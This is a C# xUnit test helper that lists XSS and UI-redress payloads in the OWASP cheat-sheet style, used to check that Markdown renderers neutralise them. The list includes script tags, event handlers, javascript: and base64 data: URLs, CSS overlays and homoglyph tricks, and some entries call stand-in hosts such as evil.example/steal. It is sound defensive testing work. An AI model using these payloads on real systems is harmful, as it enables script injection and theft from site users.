namespace PlanWorkspace.Tests.TestUtils;

/// <summary>
/// Script-injection and UI-redress payloads in the style of the OWASP XSS filter evasion cheat
/// sheet, as a writer could type them into a section, a suggestion or a comment: raw tags, event
/// attributes, script URLs with entity and whitespace tricks, CSS, SVG, MathML, frames and forms,
/// mutation tricks, Markdown links, images, autolinks and references, Markdig's generic-attribute
/// and container syntax, shortcodes, and Hangul or full-width look-alikes. Every renderer runs
/// every payload (one Theory per renderer).
/// </summary>
public static class XssCorpus
{
    private const string ScriptHtmlBase64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>
    private const string SvgOnloadBase64 = "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4="; // <svg … onload='alert(1)'/>

    public static IReadOnlyList<string> Payloads { get; } =
    [
        // Raw tags and event attributes (raw HTML is off; these must come out as text)
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<<script>script>alert(1)//<</script>/script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        // Frames, objects, forms, meta, base, link
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        $"<embed src=\"data:text/html;base64,{ScriptHtmlBase64}\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"http://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">",
        // CSS
        "<style>body{display:none}</style>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
        "<TABLE BACKGROUND=\"javascript:alert(1)\">",
        "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
        "<DIV STYLE=\"width: expression(alert(1));\">",
        "<xss style=\"behavior: url(xss.htc);\">",
        // SVG and MathML
        $"<svg><use href=\"data:image/svg+xml;base64,{SvgOnloadBase64}#x\"></use></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
        "<math href=\"javascript:alert(1)\">click</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        // Entity and whitespace tricks in raw HTML
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        // Markdown links
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        $"[x](data:text/html;base64,{ScriptHtmlBase64})",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/steal)",
        "[x](/account/logout)",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[x](https://example.com\" onclick=\"alert(1))",
        "[x](https://example.com 'title\" onmouseover=\"alert(1)')",
        "[x](https://example.com/\"><script>alert(1)</script>)",
        // Autolinks
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "www.evil.example/<script>alert(1)</script>",
        // Images
        "![x](javascript:alert(1))",
        "![x](http://127.0.0.1:9/tracker.png)",
        "![x](/etc/passwd)",
        "![x](file:///etc/passwd)",
        $"![x](data:image/svg+xml;base64,{SvgOnloadBase64})",
        $"![x](data:text/html;base64,{ScriptHtmlBase64})",
        $"![x](data:image/png;base64,{ScriptHtmlBase64})",
        "![x\" onerror=\"alert(1)](x)",
        "![x](x \"a\" onerror=\"alert(1)\")",
        "![x](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
        // Generic attributes, containers, ids (UI redress and DOM clobbering)
        "# heading {style=\"position:fixed;top:0;left:0;width:100%;height:100%\"}",
        "paragraph{#app .mud-overlay style=\"position:fixed\"}",
        "[cover](https://example.com){style=\"position:fixed;inset:0;z-index:9999\" .mud-overlay}",
        "{.mud-overlay onclick=alert(1)}\n# x",
        "::: mud-overlay\ncovered\n:::",
        "# components-reconnect-modal",
        "text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        // Shortcodes
        "{{target:<script>alert(1)</script>}}",
        "{{target:\"><svg onload=alert(1)>}}",
        "text {{initiatives:<img src=x onerror=alert(1)>}} text",
        // Hangul, full-width and other look-alikes
        "＜script＞alert(1)＜/script＞",
        "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
        "<스크립트 onload=alert(1)>alert(1)</스크립트>",
        "<scrㅣpt>alert(1)</scrㅣpt>",
        "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
        "[x](javascrіpt:alert(1))",
        "[\u202Egnp.x](javascript:alert(1))",
        // Markdown structures around payloads
        "`<script>alert(1)</script>`",
        "``a ` <script>alert(1)</script> ``",
        "```html\n<script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "> <iframe src=//evil.example></iframe>",
        "- [ ] <input onfocus=alert(1) autofocus>",
        "Term\n: <svg onload=alert(1)>",
        "H~2~O ^<script>^ ==<b>x</b>==",
        "<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\">tabnab</a>",
    ];

    /// <summary>The payloads as xunit member data.</summary>
    public static TheoryData<string> Data()
    {
        var data = new TheoryData<string>();
        foreach (var payload in Payloads)
        {
            data.Add(payload);
        }
        return data;
    }
}
